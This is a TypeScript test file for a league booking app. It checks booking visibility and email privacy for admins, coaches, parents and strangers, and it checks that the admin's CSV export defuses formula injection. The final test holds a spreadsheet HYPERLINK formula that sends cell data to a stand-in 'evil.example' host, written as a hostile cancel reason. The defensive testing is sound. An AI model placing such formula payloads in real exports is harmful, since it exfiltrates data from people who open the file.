import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { users } from '../../db/schema';
import { seedLeague, type League } from '../../test/booking-fixtures';
import { buildTestApp, TEST_ORIGIN, type TestApp, type TestUser } from '../../test/test-app';

/** Issue 10: who reads which bookings, and what an admin's export can carry. */
let t: TestApp;
let league: League;
let admin: TestUser;
let coachA1: TestUser;
let coachA2: TestUser;
let coachB: TestUser;

beforeAll(async () => {
  t = await buildTestApp();
  league = await seedLeague(t, { teams: 2, rules: { maxPerWeek: 10, maxUpcoming: 20, maxPerDay: 3 } });
  admin = await t.signUp({ email: 'priv-admin@example.org', role: 'admin' });
  coachA1 = await t.signUp({ email: 'a1@example.org', role: 'coach', teamId: league.teamIds[0]! });
  coachA2 = await t.signUp({ email: 'a2@example.org', role: 'coach', teamId: league.teamIds[0]! });
  coachB = await t.signUp({ email: 'b@example.org', role: 'coach', teamId: league.teamIds[1]! });
}, 60_000);
afterAll(() => t.close());

const send = (user: TestUser, method: 'POST' | 'PATCH', url: string, payload: unknown = {}) =>
  t.app.inject({ method, url, payload: payload as object, headers: { origin: TEST_ORIGIN, cookie: user.cookie } });
const get = (user: TestUser, url: string) => t.app.inject({ url, headers: { cookie: user.cookie } });
const mine = async (user: TestUser) => (await get(user, '/api/bookings/mine')).json().bookings as Array<{ id: string; teamId: string; bookedByEmail: string | null }>;
const book = async (user: TestUser, slotId: string) => {
  const res = await send(user, 'POST', '/api/bookings', { slotId });
  expect(res.statusCode).toBe(201);
  return res.json().booking as { id: string; bookedByEmail: string | null };
};

describe('who reads which bookings', () => {
  it("a new account cannot join a team by itself, so it reads no team's bookings and nobody's email", async () => {
    const a1Booking = await book(coachA1, league.slotIds[0]![0]!);
    const stranger = await t.signUp({ email: 'stranger@example.org' });
    const join = await send(stranger, 'PATCH', '/api/me', { teamId: league.teamIds[0] });
    expect(join.statusCode).toBe(403);
    const seen = await get(stranger, '/api/bookings/mine');
    expect(seen.statusCode).toBe(200);
    expect(seen.json().bookings).toEqual([]);
    expect(seen.body).not.toContain(coachA1.email);
    expect((await get(stranger, `/api/bookings/${a1Booking.id}/ics`)).statusCode).toBe(404);
  });

  it("a member an admin put on a team (a parent) does not read the team's bookings or its coaches' emails", async () => {
    const parent = await t.signUp({ email: 'parent@example.org', teamId: league.teamIds[0]! });
    expect(await mine(parent)).toEqual([]);
    const [a1Booking] = await mine(coachA1);
    expect((await get(parent, `/api/bookings/${a1Booking!.id}/ics`)).statusCode).toBe(404);
  });

  it("a coach reads the team's bookings, with their own email on their own and no other coach's email", async () => {
    const a2Booking = await book(coachA2, league.slotIds[1]![0]!);
    expect(a2Booking.bookedByEmail).toBe(coachA2.email);
    const list = await mine(coachA2);
    expect(list.map((b) => b.teamId)).toEqual([league.teamIds[0], league.teamIds[0]]);
    expect(list.map((b) => b.bookedByEmail)).toEqual([null, coachA2.email]);
    expect(JSON.stringify(list)).not.toContain(coachA1.email);
    // Cancelling the other coach's booking answers the booking without that coach's email too.
    const cancelled = await send(coachA2, 'POST', `/api/bookings/${list[0]!.id}/cancel`, { reason: 'Rain' });
    expect(cancelled.statusCode).toBe(200);
    expect(cancelled.json().booking).toMatchObject({ status: 'cancelled', bookedByEmail: null });
    // Another team's coach reads neither.
    expect(await mine(coachB)).toEqual([]);
  });

  it('an admin reads who booked each booking', async () => {
    const all = (await get(admin, `/api/admin/bookings?seasonId=${league.seasonId}`)).json().bookings as Array<{ bookedByEmail: string | null }>;
    expect(all.map((b) => b.bookedByEmail).sort()).toEqual([coachA1.email, coachA2.email]);
  });

  it('a coach an admin moved off the team still reads the bookings they made, and only those', async () => {
    await book(coachB, league.slotIds[2]![0]!);
    await t.database.db.update(users).set({ role: 'member', teamId: null }).where(eq(users.id, coachB.id));
    const list = await mine(coachB);
    expect(list).toHaveLength(1);
    expect(list[0]).toMatchObject({ teamId: league.teamIds[1], bookedByEmail: coachB.email });
    expect((await get(coachB, `/api/bookings/${list[0]!.id}/ics`)).statusCode).toBe(200);
  });
});

describe("the admin's bookings CSV", () => {
  it("writes a coach's formula-looking cancel reason as text, not a formula", async () => {
    const booking = await book(coachA1, league.slotIds[3]![0]!);
    const reason = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
    expect((await send(coachA1, 'POST', `/api/bookings/${booking.id}/cancel`, { reason })).statusCode).toBe(200);
    const csv = await get(admin, `/api/admin/bookings.csv?seasonId=${league.seasonId}&status=cancelled`);
    expect(csv.statusCode).toBe(200);
    const rows = parse<Record<string, string>>(csv.body, { columns: true });
    const row = rows.find((r) => r.booking_id === booking.id)!;
    expect(row.cancel_reason).toBe(`'${reason}`);
    // No cell of the file starts a formula.
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
